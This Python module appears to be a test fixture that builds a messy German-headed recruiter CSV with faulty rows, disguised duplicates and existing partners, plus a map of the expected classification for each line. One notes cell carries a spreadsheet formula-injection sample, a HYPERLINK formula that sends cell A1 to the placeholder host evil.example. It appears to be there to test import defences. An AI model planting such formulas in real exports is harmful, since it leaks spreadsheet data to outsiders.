"""A recruiter's spreadsheet as it comes: 1,200 rows with everything wrong that people get wrong.

1,128 good prospects, 37 faulty rows of many kinds, 25 duplicates spelled otherwise, 10 partners there are.
"""

from __future__ import annotations

import csv
import io
import random
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from data.lake import Lake
from data.simulate.rich.names import company_names

GOOD, FAULTS, DOUBLES, PARTNERS = 1_128, 37, 25, 10
HEADERS = ("Nr.", "FIRMA", "Web-Seite", "Land", "Stadt", "Partner Typ", "Vertriebsweg", "Branche",
           "Mitarbeiter (ca.)", "Umsatz USD", "gegründet", "Notiz")  # fmt: skip
MAPPING = {
    "prospect_id": "Nr.", "name": "FIRMA", "domain": "Web-Seite", "country": "Land", "city": "Stadt",
    "partner_type": "Partner Typ", "motion": "Vertriebsweg", "industry": "Branche",
    "employee_count": "Mitarbeiter (ca.)", "annual_revenue_usd": "Umsatz USD", "founded_year": "gegründet",
}  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
CITIES = ("München", "Köln", "Orléans", "Málaga", "Łódź", "Århus")
LANDS = ("Deutschland", "DE", "France", "ES", "Polen", "dk")


@dataclass(frozen=True)
class Nasty:
    """The file and what must come of it: line → kind."""

    content: bytes
    lines: dict[int, str]
    rows: list[list[str]]


def good_row(number: int) -> list[str]:
    """A usable prospect with accents and decimal commas."""
    names, domains = company_names(np.array([number]), kind="partner")
    rng = random.Random(number)
    k = number % 6
    revenue = (
        f"{rng.randint(1, 90)}.{rng.randint(0, 999):03d}.{rng.randint(0, 999):03d},{rng.randint(0, 99):02d}"
    )
    return [
        f"{number:05d}", f"{names[0]}", f"https://www.{domains[0]}/kontakt", LANDS[k], CITIES[k],
        rng.choice(["Reseller", "integrator", "REFERRAL", ""]), rng.choice(["resell", "Services"]),
        rng.choice(["manufacturing", "Retail", "public", ""]), rng.choice(["12", "1.250", "80", ""]), revenue,
        str(rng.randint(1950, 2021)),
        rng.choice(["", "Müller kennt sie; gut", 'sagte "ja"', "Zeile 1\nZeile 2"]),
    ]  # fmt: skip


def faulty_rows() -> list[list[str]]:
    """37 rows, each wrong in one way."""
    found = []
    changes = [
        (3, "Atlantis"), (3, "Mordor"), (8, "viele"), (8, "10-50"), (8, "-5"), (8, "12,5"), (10, "1066"),
        (10, "früher"), (9, "k. A. Mio"), (9, "-1"), (2, "keine webseite"), (3, "Narnia 7"),
    ]  # fmt: skip
    for number in range(33):
        row = good_row(50_000 + number)
        at, value = changes[number % len(changes)]
        row[at] = value
        found.append(row)
    nameless = good_row(60_000)
    nameless[1] = nameless[2] = ""
    short, long = good_row(60_001)[:9], [*good_row(60_002), "zu viel"]
    taken = good_row(60_003)
    taken[0] = "00001"
    return [*found, nameless, short, long, taken]


def double_of(row: list[str], number: int) -> list[str]:
    """The same company written otherwise, with less about it."""
    copy = list(row)
    copy[0] = f"D{number}"
    copy[1] = f"  {row[1].upper()} " if number % 2 else row[1].rsplit(" ", 1)[0]
    copy[2] = row[2].removeprefix("https://www.").partition("/")[0]
    copy[9] = copy[11] = ""
    return copy


def partner_row(number: int) -> list[str]:
    """A prospect that is a partner already."""
    row = good_row(70_000 + number)
    row[0] = f"E{number}"
    return row


def partners_of() -> Any:
    """The partners table behind `partner_row`, and others."""
    names, domains = company_names(np.arange(70_000, 70_000 + PARTNERS), kind="partner")
    other, others = company_names(np.arange(80_000, 80_200), kind="partner")
    when = datetime(2024, 1, 1)
    return pd.DataFrame(
        {
            "partner_id": [f"A{i}" for i in range(PARTNERS + 200)],
            "name": [*(n.upper() for n in names), *other],
            "domain": [*domains, *others],
            "signed_at": pd.Series([when] * (PARTNERS + 200), dtype="datetime64[us]"),
            "known_at": pd.Series([when] * (PARTNERS + 200), dtype="datetime64[us]"),
        }
    )


def keep_partners(workspace: Path) -> None:
    """Put the partners into a workspace's lake."""
    Lake(workspace / "lake").append("partners", partners_of(), ingested_at=datetime(2026, 11, 1))


def nasty_file(*, seed: int = 3) -> Nasty:
    """The file: semicolons, a byte order mark, accents, quotes, new lines inside cells, shuffled."""
    good = [good_row(n) for n in range(GOOD)]
    good[17][11] = FORMULA
    taken = faulty_rows()
    rows = [(r, "ranked") for r in good]
    rows += [(r, "fault") for r in taken]
    rows += [(double_of(good[40 * n + 3], n), "duplicate") for n in range(DOUBLES)]
    rows += [(partner_row(n), "existing_partner") for n in range(PARTNERS)]
    # What repeats an identifier must come after it.
    last = rows.pop(GOOD + FAULTS - 1)
    random.Random(seed).shuffle(rows)
    rows.append(last)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADERS)
    lines, at = {}, 2
    for row, kind in rows:
        lines[at] = kind
        writer.writerow(row)
        at += 1 + sum(cell.count("\n") for cell in row)
    return Nasty(out.getvalue().encode("utf-8-sig"), lines, [r for r, _ in rows])
